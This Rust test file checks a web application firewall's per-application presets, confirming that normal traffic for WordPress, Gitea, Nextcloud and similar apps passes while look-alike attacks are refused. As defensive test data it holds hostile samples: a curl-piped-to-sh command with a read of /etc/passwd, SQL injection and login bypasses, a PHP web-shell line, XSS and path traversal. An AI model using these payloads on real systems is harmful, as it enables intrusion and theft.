//! Presets: recorded normal work of each application is refused without its preset and passes with it; what looks alike
//! elsewhere is refused with it too.

use serde_json::json;
use waf_compiler::check_request::Outcome;

use crate::common::{self, check, compile, warnings};

const MARKUP: &str = "<h2>Hi</h2><script>track('x')</script><img src=x onerror=alert(1)>";
const SHELL: &str = "Run:\n\n```\ncurl -s http://a.example/i.sh | sh; cat /etc/passwd\n```\n";
const SQL: &str = "SELECT name FROM users WHERE id = 1 UNION SELECT password FROM users--";
const PHP: &str = "<?php system($_GET['c']); echo $_SERVER['HOST']; ?>";

fn form(method: &str, target: &str, fields: &[(&str, &str)]) -> String {
    let encode = |text: &str| -> String {
        let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte);
        text.bytes()
            .map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") })
            .collect()
    };
    let body: Vec<String> =
        fields.iter().map(|(name, value)| format!("{}={}", encode(name), encode(value))).collect();
    request(method, target, "application/x-www-form-urlencoded", &body.join("&"))
}

fn json(method: &str, target: &str, body: &serde_json::Value) -> String {
    request(method, target, "application/json", &body.to_string())
}

fn request(method: &str, target: &str, kind: &str, body: &str) -> String {
    let length = body.len();
    format!(
        "{method} {target} HTTP/1.1\r\nHost: app.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n\
         Accept: */*\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\n\r\n{body}"
    )
}

fn get(target: &str) -> String {
    format!(
        "GET {target} HTTP/1.1\r\nHost: app.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: */*\r\n\r\n"
    )
}

fn config(preset: &str) -> String {
    let methods = "GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS, PROPFIND, MOVE";
    format!(
        "version: v1alpha1\nroutes:\n  - upstream: http://a\n    accept: {{methods: [{methods}]}}\n    use: [{preset}]\n"
    )
}

/// Normal work of an application, and requests that stay refused with its preset.
fn cases() -> Vec<(&'static str, Vec<String>, Vec<String>)> {
    vec![
        (
            "datasette",
            vec![
                get(
                    "/shop.json?sql=SELECT%20name%20FROM%20users%20UNION%20SELECT%20password%20FROM%20users--",
                ),
                get("/shop/orders?_where=id%20in%20(select%20id%20from%20old_orders%20where%201%3D1)--"),
            ],
            vec![
                get("/shop/orders?_search=%3Cscript%3Ealert(1)%3C/script%3E"),
                get("/shop/orders?name=1'+union+select+password+from+users--"),
            ],
        ),
        (
            "gitea",
            vec![
                get("/ana/site/src/branch/main/.gitignore"),
                form(
                    "POST",
                    "/ana/site/_edit/main/run.sh",
                    &[("content", SHELL), ("commit_message", "Runs")],
                ),
                json("POST", "/api/v1/repos/ana/site/issues", &json!({ "title": "Page", "body": MARKUP })),
            ],
            vec![
                get("/.gitignore"),
                form("POST", "/user/login", &[("user_name", "a' or 1=1--")]),
                json("POST", "/api/v1/repos/ana/site/issues", &json!({ "milestone": SQL })),
            ],
        ),
        (
            "mlflow",
            vec![
                json("POST", "/api/2.0/mlflow/runs/set-tag", &json!({ "key": "note", "value": SHELL })),
                request("PUT", "/api/2.0/mlflow-artifacts/artifacts/1/run.py", "text/plain", SHELL),
            ],
            vec![
                json("POST", "/api/2.0/mlflow/runs/search", &json!({ "filter": SQL })),
                json("POST", "/signup", &json!({ "value": SHELL })),
            ],
        ),
        (
            "wagtail",
            vec![
                form("POST", "/admin/pages/7/edit/", &[("body-0-value", MARKUP)]),
                form("POST", "/admin/pages/add/blog/blogpage/3/", &[("intro", SHELL)]),
            ],
            vec![
                form("POST", "/admin/login/", &[("username", "a' or 1=1--")]),
                get("/admin/pages/7/edit/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
            ],
        ),
        (
            "wordpress",
            wordpress(),
            vec![
                form("POST", "/wp-comments-post.php", &[("comment", MARKUP)]),
                form("POST", "/wp-login.php", &[("log", "admin' or 1=1--"), ("pwd", "x")]),
                form(
                    "POST",
                    "/wp-admin/post.php",
                    &[("content", "x"), ("post_ID", "1 union select password from users")],
                ),
                form("POST", "/wp-admin/admin.php", &[("content", MARKUP)]),
                get("/?s=%3Cscript%3Ealert(1)%3C/script%3E"),
                json("POST", "/wp-json/wp/v2/posts/10", &json!({ "slug": MARKUP })),
            ],
        ),
        (
            "nextcloud",
            vec![
                get("/remote.php/dav/files/ana/notes/.env"),
                get("/remote.php/dav/files/ana/backup/config.inc.php.bak"),
                request("PUT", "/cloud/remote.php/dav/files/ana/run.sh", "text/plain", SHELL),
                json("PUT", "/index.php/apps/notes/api/v1/notes/7", &json!({ "content": SHELL })),
            ],
            vec![
                get("/config/.env"),
                get("/remote.php/dav/files/ana/..%2f..%2fconfig/.env"),
                request("PUT", "/ocs/v2.php/x", "text/plain", SHELL),
                json("PUT", "/index.php/apps/notes/api/v1/notes/7", &json!({ "category": SHELL })),
            ],
        ),
        (
            "grafana",
            grafana(),
            vec![
                json("POST", "/api/ds/query", &json!({ "from": SQL })),
                json("POST", "/api/users", &json!({ "queries": [{ "rawSql": SQL }] })),
                json("POST", "/api/login", &json!({ "user": "a' or 1=1--" })),
                get("/api/search?query=1'+union+select+password+from+users--"),
            ],
        ),
        (
            "phpmyadmin",
            vec![
                form("POST", "/phpmyadmin/index.php?route=/import", &[("db", "shop"), ("sql_query", SQL)]),
                form("POST", "/index.php?route=/table/replace", &[("fields[multi_edit][0][ab12]", PHP)]),
            ],
            vec![
                form("POST", "/phpmyadmin/index.php", &[("pma_username", "a' or 1=1--")]),
                form("POST", "/phpmyadmin/x.php", &[("sql_query", SQL)]),
                get("/phpmyadmin/index.php?sql_query=1'+union+select+password+from+users--"),
            ],
        ),
        (
            "dokuwiki",
            vec![
                form("POST", "/doku.php?id=test:code&do=edit", &[("do", "save"), ("wikitext", SHELL)]),
                form("POST", "/wiki/lib/exe/ajax.php", &[("call", "draftsave"), ("wikitext", PHP)]),
            ],
            vec![
                form("POST", "/doku.php?id=test&do=login", &[("u", "a' or 1=1--")]),
                form("POST", "/doku.php?id=../../../etc/passwd", &[("wikitext", "x")]),
            ],
        ),
        (
            "mediawiki",
            vec![
                form(
                    "POST",
                    "/w/index.php?title=A&action=submit",
                    &[("wpTextbox1", MARKUP), ("wpSummary", "x")],
                ),
                form("POST", "/w/api.php", &[("action", "edit"), ("text", SHELL)]),
                json("PUT", "/w/rest.php/v1/page/A", &json!({ "source": PHP, "comment": "x" })),
            ],
            vec![
                form("POST", "/w/api.php", &[("action", "edit"), ("title", SHELL)]),
                form("POST", "/w/index.php?search=%3Cscript%3Ealert(1)%3C/script%3E", &[("wpTextbox1", "x")]),
            ],
        ),
        (
            "directus",
            vec![
                json("PATCH", "/items/articles/7", &json!({ "body": MARKUP })),
                json("POST", "/items/articles", &json!([{ "body": SHELL, "seo": { "title": SQL } }])),
            ],
            vec![
                json("POST", "/auth/login", &json!({ "email": "a' or 1=1--" })),
                get("/items/articles?search=%3Cscript%3Ealert(1)%3C/script%3E"),
            ],
        ),
        (
            "node-red",
            vec![
                json(
                    "POST",
                    "/flows",
                    &json!({ "flows": [{ "id": "1", "type": "exec", "command": SHELL }] }),
                ),
                json(
                    "PUT",
                    "/red/flow/12",
                    &json!({ "nodes": [{ "type": "template", "template": MARKUP }] }),
                ),
            ],
            vec![
                json("POST", "/api/orders", &json!({ "command": SHELL })),
                json("POST", "/auth/token", &json!({ "username": "a' or 1=1--" })),
            ],
        ),
        (
            "jupyterlab",
            vec![
                json(
                    "PUT",
                    "/api/contents/a.ipynb",
                    &json!({ "content": { "cells": [{ "source": SHELL }] } }),
                ),
                json("PUT", "/user/ana/api/contents/run.sh", &json!({ "content": SHELL, "format": "text" })),
                get("/lab/tree/.gitignore"),
                get("/api/contents/q.sql"),
            ],
            vec![
                json("PUT", "/api/contents/a.ipynb", &json!({ "path": SHELL })),
                json("POST", "/api/kernels", &json!({ "content": SHELL })),
                get("/.gitignore"),
            ],
        ),
        (
            "elasticsearch",
            vec![
                json("GET", "/movies/_search", &json!({ "query": { "match_all": {} } })),
                json("GET", "/_msearch/template", &json!({ "a": 1 })),
                json("POST", "/_sql?format=txt", &json!({ "query": SQL })),
            ],
            vec![
                json("GET", "/movies/_doc/1", &json!({ "a": 1 })),
                json("POST", "/movies/_doc", &json!({ "query": SQL })),
            ],
        ),
    ]
}

fn wordpress() -> Vec<String> {
    vec![
        json(
            "POST",
            "/wp-json/wp/v2/posts/10?_locale=user",
            &json!({ "id": 10, "title": SQL, "content": MARKUP }),
        ),
        json("POST", "/blog/wp-json/wp/v2/pages/3", &json!({ "content": { "raw": SHELL } })),
        json("POST", "/wp-json/wp/v2/posts/10", &json!({ "content": PHP }))
            .replace("Accept: */*", "X-HTTP-Method-Override: PUT"),
        form(
            "POST",
            "/wp-admin/post.php",
            &[("post_ID", "10"), ("content", MARKUP), ("meta[12][value]", PHP)],
        ),
        form(
            "POST",
            "/wp-admin/admin-ajax.php",
            &[("action", "edit-theme-plugin-file"), ("newcontent", PHP)],
        ),
        form(
            "POST",
            "/wp-admin/options.php",
            &[("disallowed_keys", "union select\n<script>\n../../etc/passwd")],
        ),
        json(
            "POST",
            "/wp-json/batch/v1?_locale=user",
            &json!({ "requests": [{ "body": { "instance": { "raw": { "content": MARKUP } } } }] }),
        ),
    ]
}

fn grafana() -> Vec<String> {
    let expression = "sum(rate(http_requests_total{job=\"a\"}[5m])) > 0 or 1=1 and sleep(5)";
    vec![
        json("POST", "/api/ds/query?ds_type=mysql", &json!({ "queries": [{ "refId": "A", "rawSql": SQL }] })),
        json(
            "POST",
            "/grafana/api/dashboards/db",
            &json!({ "dashboard": { "panels": [{ "targets": [{ "rawSql": SQL, "expr": expression }] }] } }),
        ),
        json(
            "POST",
            "/api/ruler/grafana/api/v1/rules/infra",
            &json!({ "rules": [{ "grafana_alert": { "data": [{ "model": { "expr": SQL } }] } }] }),
        ),
    ]
}

#[test]
fn normal_work_passes_with_the_preset_of_its_application_alone() {
    let plain = compile(&config("")).unwrap();
    for (preset, honest, attacks) in cases() {
        let compiled = compile(&config(preset)).unwrap();
        for request in honest {
            let without = plain.explain(request.as_bytes());
            assert!(without.outcome == Outcome::Refused, "{preset}: nothing is found in\n{request}");
            let with = compiled.explain(request.as_bytes());
            assert!(with.outcome == Outcome::Passed, "{preset}: refused\n{request}\n{}", with.text);
            assert!(with.text.contains(&format!("spared by the exception {preset}: ")), "{}", with.text);
        }
        for request in attacks {
            let with = compiled.explain(request.as_bytes());
            assert!(with.outcome == Outcome::Refused, "{preset}: passes\n{request}\n{}", with.text);
        }
    }
}

#[test]
fn every_preset_is_tested_and_adds_its_list_once() {
    let tested: Vec<&str> = cases().iter().map(|(preset, ..)| *preset).collect();
    let mistake = compile(&config("none")).unwrap_err().remove(0);
    let known = mistake.help.unwrap();
    let mut known: Vec<&str> = known.strip_prefix("there are ").unwrap().split(", ").collect();
    for preset in tested {
        let at = known.iter().position(|name| *name == preset);
        known.remove(at.unwrap());
        let once = compile(&config(preset)).unwrap();
        assert!(once.warnings.is_empty(), "{:?}", once.warnings);
        let text = config(preset).replace("routes:", &format!("global: {{use: [{preset}]}}\nroutes:"));
        common::compare(&text, &warnings(&text), &[(6, &["routes[default].use: ", "is named already"])]);
        let twice = compile(&text).unwrap();
        assert_eq!(once.plan.exceptions, twice.plan.exceptions);
        let effective = once.effective("default").unwrap();
        let lines = effective.lines().filter(|line| line.ends_with(&format!("# preset {preset}, line 5")));
        assert_eq!(lines.count(), once.plan.exceptions.len());
    }
    assert!(known.is_empty(), "{known:?}");
    check(
        &config("wordpres"),
        &[(5, &["`wordpres` is not the name of a preset", "did you mean `wordpress`?"])],
    );
}
